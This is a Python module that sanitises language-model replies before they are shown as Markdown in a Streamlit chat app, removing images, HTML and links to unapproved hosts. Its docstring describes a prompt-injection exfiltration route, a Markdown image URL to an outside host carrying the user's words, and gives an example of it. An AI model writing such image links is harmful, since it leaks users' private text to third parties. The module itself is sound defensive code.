"""Model output made safe to save and to draw as Markdown: no images, no HTML, no links to unknown hosts.

Why: Streamlit draws chat replies as Markdown, and Markdown images load by themselves. A model (or a prompt
injected into one) that writes ``![x](http://elsewhere/?q=<the person's words>)`` would send a person's words
out of the machine the moment the reply is drawn, with no click. Links are the same a click later. So before
a model's text is shown or saved: images and HTML go, reference definitions (which would turn the ``[n]``
citations into links) go, and a link keeps its words but loses its address unless the address is on a host
Haven gave the model (the passages' sources and the help lines) or is a ``tel:``/``sms:`` number.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

REMOVED_LINK = "(link removed)"
_SAFE_SCHEMES = ("tel:", "sms:")

_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.S)
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]+|www\.[^>\s]+)>", re.I)
_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?>|</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?$")
_IMAGE = re.compile(r"!\[[^\]]*\]\s*(?:\([^)]*\)|\[[^\]]*\])")
_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S.*$", re.M)
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
_REF_LINK = re.compile(r"\[([^\]\n]+)\]\[[^\]\n]*\]")
_BARE = re.compile(r"\b(?:(?:https?|ftp)://|www\.)[^\s<>()\[\]]+", re.I)
_PLACEHOLDER = "\x00{}\x00"


def host_of(url: str) -> str:
    """The host of ``url`` in lower case, without 'www.' ('' when it has none)."""
    if url.lower().startswith("www."):
        url = "http://" + url
    try:
        host = urlsplit(url).hostname or ""
    except ValueError:
        return ""
    return host.lower().removeprefix("www.")


def hosts_in(texts: Iterable[str]) -> set[str]:
    """Every host named by a URL in ``texts`` (help lines, references): the hosts a reply may link to."""
    return {host_of(m.group(0)) for text in texts for m in _BARE.finditer(text or "")} - {""}


def _allowed(url: str, hosts: set[str]) -> bool:
    if url.lower().startswith(_SAFE_SCHEMES):
        return True
    host = host_of(url)
    return bool(host) and any(host == h or host.endswith("." + h) for h in hosts)


def clean_markdown(text: str, allowed_hosts: Iterable[str] = ()) -> str:
    """``text`` without images, HTML, reference definitions, or links and URLs to hosts not allowed."""
    hosts = {h.lower().removeprefix("www.") for h in allowed_hosts if h}
    text = _COMMENT.sub("", text)
    text = _AUTOLINK.sub(lambda m: m.group(1), text)
    text = _TAG.sub("", text)
    text = _IMAGE.sub("", text)
    text = _DEFINITION.sub("", text)
    kept: list[str] = []

    def link(match: re.Match) -> str:
        words, url = match.group(1).strip(), match.group(2)
        if url and _allowed(url, hosts):
            kept.append(f"[{words or url}]({url})")
            return _PLACEHOLDER.format(len(kept) - 1)
        return words

    text = _LINK.sub(link, text)
    text = _REF_LINK.sub(lambda m: m.group(1), text)
    text = _BARE.sub(lambda m: m.group(0) if _allowed(m.group(0), hosts) else REMOVED_LINK, text)
    text = text.replace("\x00", "") if not kept else re.sub(r"\x00(\d+)\x00", lambda m: kept[int(m.group(1))], text)
    return text


def unfinished_markup(text: str) -> bool:
    """Does ``text`` end inside a link, image or tag? Then a stream waits for more before showing it."""
    if text.rfind("[") > text.rfind("]"):
        return True
    if re.search(r"\]\s*\([^)]*$", text):
        return True
    last_open = text.rfind("<")
    return last_open > text.rfind(">") and bool(re.match(r"</?[A-Za-z!]", text[last_open:]))
